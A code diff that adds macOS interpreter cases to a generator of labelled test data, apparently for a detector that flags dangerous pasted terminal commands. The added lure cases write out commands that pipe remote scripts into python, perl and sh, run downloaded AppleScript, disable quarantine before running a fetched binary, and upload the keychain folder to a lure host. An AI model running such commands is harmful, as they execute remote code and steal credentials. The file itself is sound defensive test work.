@@ -56,6 +56,10 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
 - `console-fetched-code`: a script element filled with fetched text, and an account's data read
   from the site's own API and posted elsewhere: `malicious` in the console; reading the API,
   or pinging a monitor after a health check: not flagged;
+- `mac-interpreters`: a download handed to python/perl/node as program text, a downloaded
+  AppleScript run with osascript, quarantine switched off with `defaults write`, the keychain
+  folder uploaded, Terminal killed after a run: `flagged` or `malicious`; running a local script,
+  `python3 -c` with plain code, archiving one's own documents: not flagged;
 - `oauth-placeholder`: a documentation redirect whose code is cut short with `...`: not flagged;
   a real code: `flagged`.
 """
@@ -695,6 +699,42 @@ def console_fetched_cases() -> list[dict[str, str]]:
     return out
 
 
+def mac_interpreter_cases() -> list[dict[str, str]]:
+    h = LURE_HOSTS[0]
+    page = STRANGER_PAGES[2]
+    lures = [
+        (f'python3 -c "$(curl -fsSL https://{h}/k.py)"', "flagged"),
+        (f'perl -e "$(wget -qO- https://{h}/m.pl)"', "flagged"),
+        (f"curl -s https://{h}/u.scpt -o /tmp/u.scpt && osascript /tmp/u.scpt", "flagged"),
+        (
+            f"defaults write com.apple.LaunchServices LSQuarantine -bool NO && curl -fsSL "
+            f"https://{h}/q -o /tmp/q && chmod +x /tmp/q && /tmp/q",
+            "malicious",
+        ),
+        (
+            f"tar -czf - ~/Library/Keychains | curl -X PUT --data-binary @- https://{h}/w",
+            "malicious",
+        ),
+        (f'sh -c "$(curl -fsSL https://{h}/i)"; killall Terminal', "malicious"),
+    ]
+    out = [
+        case(f"rt-mac-interp-{n}", text, expect, "T1059", "macos", page, "terminal")
+        for n, (text, expect) in enumerate(lures, start=1)
+    ]
+    benign = [
+        "osascript ~/scripts/resize-windows.scpt",
+        'python3 -c "import sys; print(sys.version)"',
+        "tar -czf ~/Desktop/docs-backup.tgz ~/Documents/Projects",
+        "curl -fsSL https://data.example-stats.org/daily.json -o daily.json && python3 plot.py daily.json",
+    ]
+    out += [
+        case(f"rt-mac-interp-ok-{n}", text, "not_flagged", BENIGN, "macos",
+             "https://apple.stackexchange.com/questions/12345/", "terminal")
+        for n, text in enumerate(benign, start=1)
+    ]  # fmt: skip
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
         page_disguise_cases()
@@ -715,6 +755,7 @@ def build() -> list[dict[str, str]]:
         + rare_lolbin_cases()
         + comment_claim_cases()
         + console_fetched_cases()
+        + mac_interpreter_cases()
     )
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
